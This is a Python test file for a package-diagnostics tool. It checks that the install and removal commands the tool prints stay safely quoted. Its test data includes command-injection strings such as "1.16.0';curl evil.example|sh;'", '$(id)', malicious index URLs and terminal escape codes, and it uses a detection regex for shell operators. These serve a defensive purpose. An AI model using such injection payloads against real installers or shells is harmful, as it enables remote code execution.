"""The door to the shell: every command that is printed is words, and its words are those that were meant."""

import json
import re
import shlex
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diagnostics import __main__ as command
from diagnostics import door
from diagnostics.doctor.fixplan.installers import Installer
from diagnostics.doctor.fleet.nodes import Node, read
from diagnostics.doctor.fleet.report import examine_fleet, shareable
from diagnostics.doctor.installing import install, uninstall
from diagnostics.collect import collection, compat
from diagnostics.collect import environment as facts
from diagnostics.nodes.answer import NodeAnswer
from diagnostics.output import clean, output, wording
from diagnostics.output.remedies import Explain, Install, Run, SetVariables, Unset
from tests.diagnostics.environments import issues
from tests.diagnostics.test_door_out import terminal

INJECTED = "1.16.0';curl evil.example|sh;'"
HOSTILE = st.text(st.sampled_from(" ';|&$`\"\\#<>(){}*?~!-\n\tabü=:/"), min_size=1, max_size=12)
# Shell operators that our own commands have between words, never inside one.
OPERATORS = {"|", ">", "&&"}


def printed(form, prefix, *options, capsys):
    command.main(["doctor", *options, "--format", form, "--prefix", str(prefix)])
    return capsys.readouterr().out


@settings(max_examples=300, deadline=None)
@given(HOSTILE, HOSTILE, HOSTILE)
def test_a_command_is_read_back_as_its_words(prefix, name, place):
    """Whatever stands in it; a note behind it ends with the line."""
    words = [
        (Install((f"{name}=={place}",), (f"/{prefix}/bin/python", "-m", "pip", "install")), None),
        (Run(("rm", "-r", place)), None), (Unset((name, place)), None), (SetVariables(((name, place),)), None),
        (Explain(name), None), (Install((name,), ("uv", "pip", "install", "--python", prefix), note=place), "#"),
        (Run(("ls", name), piped=(("head", place),), into=prefix, then=Run(("mv", place, name))), "|"),
    ]  # fmt: skip
    for action, extra in words:
        line = wording.command_of(action)
        if extra == "#":
            line = line.removesuffix(f"  # {wording.one_line(place)}")
        expected = list(action.words)
        if extra == "|":
            expected += ["|", "head", place, ">", prefix, "&&", "mv", place, name]
        assert shlex.split(line) == expected


def test_a_home_is_told_without_its_owner_and_still_found(monkeypatch):
    """A tilde stands outside the quotes."""
    monkeypatch.setenv("HOME", "/home/ada")
    assert wording.quoted(("/home/ada/my env/bin/python", "-m", "pip")) == "~/'my env/bin/python' -m pip"
    assert wording.quoted(("/home/adam/x", "~", "~/", "a~/b")) == "/home/adam/x '~' ~/ 'a~/b'"


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("trl", INJECTED), ("trl';curl evil.example|sh;'", "1.16.0"), ("trl", "1.0 --index-url http://evil"),
        ("--index-url=http://evil", "1.0"), ("-r", "1.0"), ("trl @ http://evil/x.whl", "1.0"), ("trl", "$(id)"),
        ("trl", "1.0\x1b]52;c;aGk=\x07"), ("trl", "9" * 300), ("tr\u202el", "1.0"), ("trl", "*"), ("tr\u043b", "1.0"),
        ("trl", "\u0661.\u0660"),
    ],
)  # fmt: skip
def test_what_is_no_name_or_version_is_broken_metadata(environment, capsys, name, version):
    """It is named by its folder alone, in every format and in a plan."""
    environment.add(name, version, folder="trl-1.16.0.dist-info").add("vllm", "0.7.3")
    seen = facts.collect(environment.prefix, {})
    assert [Path(place).name for place in seen.broken] == ["trl-1.16.0.dist-info"]
    assert set(seen.packages) == {"vllm"}
    for form in output.FORMATS:
        told = printed(form, environment.prefix, capsys=capsys)
        assert "ENV901" in told
        assert "evil" not in told
        assert "$(id)" not in told
    for form in ("terminal", "json", "markdown"):
        told = printed(form, environment.prefix, "--fix-plan", capsys=capsys)
        assert "trl-1.16.0.dist-info" in told
        assert "evil" not in told


@pytest.mark.parametrize(
    "version",
    ["1.16.0", "1.0rc1", "0.7.4.dev0+g1a2b", "2!1.0.post1", "v1.0", "1.0-1", "2024.1", "1.0+cu12-1"],
)
def test_what_a_version_may_be_is_one(version):
    """As `packaging` reads it."""
    from packaging.version import Version

    assert Version(version)
    assert facts.names_a_package("Flash_Attn.x", version)


@settings(max_examples=500, deadline=None)
@given(st.text(st.sampled_from("0123456789.abrcdevpost!+-_v"), max_size=14))
def test_versions_are_those_of_packaging(text):
    """The node's own reading has no `packaging`, and says the same."""
    from packaging.version import InvalidVersion, Version

    try:
        Version(text)
    except InvalidVersion:
        valid = False
    else:
        valid = True
    assert facts.names_a_package("trl", text) == valid


PREFIXES = [
    "my env",
    "a;curl evil|sh",
    "$(id)",
    "`id`",
    "it's",
    '"x"',
    "a&&b",
    "-rf",
    "a\tb",
    "#x",
    "*",
    "~",
    "a>b",
]


@pytest.mark.parametrize("folder", PREFIXES)
@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_commands_of_doctor_and_plan_keep_their_words(environment, capsys, folder, installer):
    """An environment in a folder of any name, with a broken folder of any name: as JSON tells words and lines."""
    environment.add("vllm", "0.7.3", installer=installer, requires=["torch===1;id", "numpy>9"]).add(
        "numpy", "1.0", installer=installer
    ).add("odd", "", folder=f"{folder}.dist-info")
    prefix = environment.prefix.with_name(folder)
    environment.prefix.rename(prefix)
    document = json.loads(printed("json", prefix, capsys=capsys))
    actions = [
        action for found in document["findings"] if found["remedy"]
        for action in found["remedy"]["actions"] if "words" in action
    ]  # fmt: skip
    lines = [
        line for found in document["findings"] if found["remedy"] for line in found["remedy"]["commands"]
    ]
    assert len(lines) == len(actions) > 3
    for line, action in zip(lines, actions, strict=True):
        bare = line.removesuffix(f"  # {action['note']}") if action.get("note") else line
        assert shlex.split(bare)[: len(action["words"])] == action["words"]
    # In the terminal, where home is home: the very words.
    told = printed("terminal", prefix, capsys=capsys)
    shown = [
        shlex.split(line.partition("$ ")[2]) for line in told.splitlines() if line.startswith("        $ ")
    ]
    place = facts.collect(prefix, {}).broken[0]
    assert ["rm", "-r", door.line(place).replace("\t", r"\u0009")] in shown
    plan = json.loads(printed("json", prefix, "--fix-plan", capsys=capsys))
    for step in plan["steps"]:
        for line in step["commands"]:
            outside = re.sub(r"'[^']*'", "", line.partition("  # ")[0].replace("'\"'\"'", ""))
            assert not re.search(r"[;`$()]|\|\s*sh|(?<!&)&(?!&)", outside), line


def test_the_installers_words(environment):
    """Prefix, requirement and name are a word each, with any installer."""
    seen = facts.collect(environment.add("vllm", "0.7.3", installer="uv").prefix, {})
    for action in (install(seen, "a;id", "b c"), uninstall(seen, "x'y")):
        assert shlex.split(wording.command_of(action)) == list(action.words)
    assert Installer


def hostile_node(prefix, packages, broken, tmp_path):
    document = collection.collect(prefix, {}).to_json()
    environment = document["environment"] | {"packages": packages, "broken": broken}
    environment["prefix"] = f"{tmp_path};id"
    told = {"facts": document | {"environment": environment}, "nccl": [], "models": []}
    return read(NodeAnswer(text=f"grpo-doctor-node: {json.dumps(told)}"))


def test_a_node_is_believed_no_more_than_a_folder(environment, tmp_path):
    """What another machine answers: names, versions and places are held to the same, and its words are quoted."""
    package = {"place": "/x", "installer": "uv", "requires": [], "damaged": ["a\x1b[2J: not there"]}
    packages = {
        "vllm": package | {"name": "vllm", "version": "0.7.3"},
        "trl": package | {"name": "trl", "version": INJECTED, "place": "/s/trl.dist-info"},
        "torch": package | {"name": "other';id;'", "version": "2.0", "place": "/etc"},
    }
    found = hostile_node(
        environment.prefix, packages, ["/", "/home", "-rf", "/s/../etc-info", "/s/~a.dist-info"], tmp_path
    )
    seen = found["facts"].environment
    assert set(seen.packages) == {"vllm"}
    assert seen.broken == ("/s/trl.dist-info", "/s/~a.dist-info")
    nodes = [Node(0, "rank", "0", "n;id\x1b[2J", **found)]
    report = examine_fleet(nodes, issues(), compat.load())
    for form in output.FORMATS:
        shown = (
            report
            if form == "terminal"
            else shareable(lambda each: examine_fleet(each, issues(), compat.load()), nodes)
        )
        with terminal() as (out, _):
            output.write(shown, SimpleNamespace(format=form, fail_on="error", verbose=True))
        assert "curl" not in out.getvalue()
        assert "\x1b" not in out.getvalue()
        assert "rm -r /s/trl.dist-info" in out.getvalue() or form in {"junit", "github", "sarif"}
        if form == "terminal":
            lines = [line.partition("$ ")[2] for line in out.getvalue().splitlines() if "        $ " in line]
            assert any(
                shlex.split(line)[:1] and f"{tmp_path};id" in " ".join(shlex.split(line)) for line in lines
            )


def test_what_is_shared_is_quoted_after_it_was_cleaned():
    """`<user>` in a command that is pasted must not become a redirection."""
    action = Install(("trl",), ("/home/ada/env/bin/python", "-m", "pip", "install"))
    assert wording.command_of(clean.shareable(action)) == "'/home/<user>/env/bin/python' -m pip install trl"


def test_every_command_is_quoted_in_one_place():
    """Nobody else knows the shell: but for what sends a command to a shell of ssh's, and what reads scripts."""
    root = Path(__file__).parents[2] / "diagnostics"
    known = {"output/wording.py", "nodes/reach.py", "lint/commands.py", "lint/sources/wrapped.py"}
    found = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"\bshlex\.(quote|join)", path.read_text())
    }
    assert found <= known
